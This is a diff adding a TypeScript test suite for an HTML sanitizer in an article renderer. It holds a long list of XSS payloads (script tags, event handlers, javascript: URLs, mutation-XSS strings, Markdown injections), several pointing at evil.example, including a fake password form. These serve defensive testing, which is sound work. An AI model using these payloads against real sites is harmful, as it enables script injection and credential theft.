@@ -1,0 +1,205 @@
+import type { Element } from 'hast'
+import { describe, expect, it } from 'vitest'
+import { elementsIn, html, treeOf } from './test-html.ts'
+
+const ELEMENTS = new Set(
+  `a abbr b bdi bdo blockquote br button caption cite code dd del details dfn div dl dt em figcaption
+  figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre progress q rp rt ruby s samp section
+  small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr`.split(
+    /\s+/,
+  ),
+)
+const ATTRIBUTES = new Set(
+  `alt ariaLabel checked cite className colSpan dataCopy dateTime decoding dir disabled height href id
+  lang loading max open reversed role rowSpan scope sizes src srcSet start tabIndex title type value
+  width`.split(/\s+/),
+)
+const CLASSES =
+  /^(code|code-bar|table|align-(left|center|right)|tk-[a-z-]+|tint-[0-3]{3}|language-.*|footnotes?(-(ref|item|list|backref))?|footnotes-list|task-list-item|contains-task-list)$/
+const PROTOCOLS = ['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:']
+
+/** Everything in the markup that an article must never hold, in the words of a parser. */
+function forbiddenIn(markup: string): string[] {
+  return elementsIn(markup).flatMap((element) => [
+    ...(ELEMENTS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
+    ...Object.keys(element.properties)
+      .filter((name) => !ATTRIBUTES.has(name))
+      .map((name) => `${element.tagName} ${name}`),
+    ...forbiddenValues(element),
+  ])
+}
+
+function forbiddenValues({ tagName, properties }: Element): string[] {
+  const addresses = [properties.href, properties.src, properties.cite].filter((value) => value)
+  const classes = Array.isArray(properties.className) ? properties.className : []
+  return [
+    ...addresses.filter((address) => {
+      const { protocol } = new URL(String(address), 'https://byline.test/article/x')
+      return !PROTOCOLS.includes(protocol)
+    }),
+    ...classes.filter((name) => !CLASSES.test(String(name))),
+    ...(tagName === 'input' && !(properties.type === 'checkbox' && properties.disabled)
+      ? ['an input that takes something']
+      : []),
+    ...(tagName === 'button' && properties.dataCopy === undefined ? ['a button of theirs'] : []),
+    ...(properties.srcSet === undefined ? [] : ['a srcset of theirs']),
+    ...(/^(page|comment)(-|$)/i.test(String(properties.id ?? '')) ? ['an id of the page'] : []),
+  ].map(String)
+}
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\x0b>alert(1)</script>',
+  '<script/xss src=data:,alert(1)>',
+  '<script type="application/json" id="page-state">{}</script>',
+  '<<script>alert(1)//<</script>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<link rel="preload" as="script" href="x">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<title>x</title><body onload=alert(1)><html manifest=x>',
+  '<iframe src=javascript:alert(1)></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<frameset><frame src=javascript:alert(1)></frameset>',
+  '<object data=x><embed src=x><param name=x value=javascript:alert(1)></object>',
+  '<applet code=x></applet><portal src=x></portal><fencedframe></fencedframe>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src=x/onerror=alert(1)//>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<img src=x srcset="javascript:alert(1) 1x, //evil.example/x 2x">',
+  '<img src=x style="position:fixed;inset:0">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img """><script>alert("1")</script>">',
+  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
+  '<video src=x onerror=alert(1)><track src=x></video><audio src=x autoplay></audio>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
+  '<svg><use href="data:image/svg+xml,x#x"/></svg>',
+  '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
+  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<a href="javascript:alert(1)" onclick=alert(1) target=_blank ping=//evil.example download>x</a>',
+  '<a href="x" style="position:fixed">x</a>',
+  '<div style="background:url(javascript:alert(1))" class="fixed inset-0" onmouseover=alert(1)>x</div>',
+  '<p class="code-bar" role=alert aria-label=x tabindex=1 contenteditable data-copy accesskey=x>x</p>',
+  '<p slot=x is=x part=x itemprop=x popover id=page-state hidden autofocus onfocus=alert(1)>x</p>',
+  '<td align="left fixed inset-0">x</td>',
+  '<table align="x"><tr><td align="left fixed inset-0" style="x" background="javascript:x">x</table>',
+  '<form action=//evil.example><input name=password type=password><button>Login</button></form>',
+  '<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>',
+  '<input type=image src=x onerror=alert(1)><input type=text value=x autofocus onfocus=alert(1)>',
+  '<input type=checkbox name=x form=y>',
+  '<textarea autofocus onfocus=alert(1)></textarea><select onchange=x><option>x</select>',
+  '<keygen><isindex action=javascript:alert(1)><datalist><output><label for=x><fieldset><legend>',
+  '<button popovertarget=page-menu data-copy>Menu</button>',
+  '<dialog open>Login</dialog><slot></slot><template><script>alert(1)</script></template>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<marquee onstart=alert(1)>x</marquee><blink>x</blink><bgsound src=javascript:alert(1)>',
+  '<custom-element onclick=alert(1)>x</custom-element><x:y onclick=alert(1)>z</x:y>',
+  '<q cite="javascript:alert(1)">x</q><blockquote cite="vbscript:x">x</blockquote>',
+  '<time datetime="x" onclick=x>x</time><progress value=x onclick=x></progress>',
+  '<!--><script>alert(1)</script>-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?><? <script>alert(1)</script> ?>',
+  '<!DOCTYPE html [<!ENTITY x "y">]>',
+  // Markup that becomes another one when it is parsed a second time.
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<svg><style><img/src=x onerror=alert(1)//</b>',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
+  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
+  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
+  '<title><p title="</title><img src=x onerror=alert(1)>">',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=x>">',
+  '<table><td><select><script>x</script></select><style></td></table><img src onerror=x>',
+  '<p title="--><img src=x onerror=alert(1)>">x</p>',
+  '<p title="`&quot;><img src=x onerror=alert(1)>">x</p>',
+  '<pre>\n\n<code title="</code></pre><img src=x onerror=alert(1)>">x</code></pre>',
+  '<p><button><p>x</p></button></p><a><marquee><a href=x>y</a></marquee></a>',
+  // The same through Markdown.
+  '![x](x"onerror="alert(1))',
+  '![x" onerror="alert(1)](x "y\\" onerror=\\"alert(1)")',
+  '[x](x "y&quot; onclick=&quot;alert(1)")',
+  '```"><script>alert(1)</script>\nx\n```',
+  '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
+  '    </code></pre><script>alert(1)</script>',
+  '`</code><script>alert(1)</script>`',
+  '# x {#page-state}\n\n# <img src=x onerror=alert(1)> {#" onclick="alert(1)}',
+  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: <script>alert(1)</script>',
+  '|<script>|\n|-|\n|<img src=x onerror=alert(1)>|',
+  '<https://a.example/"onmouseover="alert(1)> https://a.example/"><script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+  '\u2028<script\u2028>alert(1)</script>',
+  '<scr\0ipt>alert(1)</scr\0ipt><img src=x oner\0ror=alert(1)>',
+]
+
+describe('a text that attacks its readers', () => {
+  it.each(attacks)('is harmless, whoever parses it: %j', async (text) => {
+    const markup = await html(text)
+    expect(forbiddenIn(markup)).toEqual([])
+    expect(forbiddenIn(`<div>${markup}</div>`)).toEqual([])
+  })
+
+  it.each(attacks)('is harmless in the middle of other text: %j', async (text) => {
+    expect(forbiddenIn(await html(`Before **${text}** after\n\n> - ${text}\n\n${text}`))).toEqual(
+      [],
+    )
+  })
+
+  it.each(attacks)('does not break out of the article: %j', async (text) => {
+    const page = treeOf(`<main>${await html(text)}</main><p id="page-after">after</p>`)
+    expect(page.children.map((node) => 'tagName' in node && node.tagName)).toEqual(['main', 'p'])
+  })
+
+  it('of all attacks in one is harmless', async () => {
+    expect(forbiddenIn(await html(attacks.join('\n\n')))).toEqual([])
+    expect(forbiddenIn(await html(attacks.join('')))).toEqual([])
+  })
+})
+
+describe('the parser of these tests', () => {
+  it.each([
+    '<script>',
+    '<p onclick=x>',
+    '<a href=javascript:x>',
+    '<input>',
+    '<p class=fixed>',
+    '<button>',
+  ])('sees what is wrong with %j', (markup) => expect(forbiddenIn(markup)).not.toEqual([]))
+})
+
+describe('harmless HTML in a text', () => {
+  it.each([
+    '<kbd>Ctrl</kbd>',
+    '<sub>2</sub>',
+    '<mark>x</mark>',
+    '<abbr title="HyperText">HT</abbr>',
+    '<ruby>漢<rp>(</rp><rt>kan</rt></ruby>',
+    '<del>x</del>',
+    '<bdo dir="rtl">x</bdo>',
+    '<span lang="de">x</span>',
+    '<time datetime="2026-05-01">x</time>',
+  ])('stays: %j', async (text) => expect(await html(text)).toContain(text))
+
+  it('may be folded away', async () => {
+    const names = elementsIn(
+      await html('<details open><summary>More</summary>\n\n*x*\n</details>'),
+    ).map((element) => element.tagName)
+    expect(names).toEqual(['details', 'summary', 'p', 'em'])
+  })
+
+  it('loses its unknown tags and keeps their text', async () => {
+    expect(await html('<center><font color=red>Hello</font></center>')).toBe('Hello')
+    expect(await html('<form><button>Go</button></form>')).toBe('Go')
+  })
+})
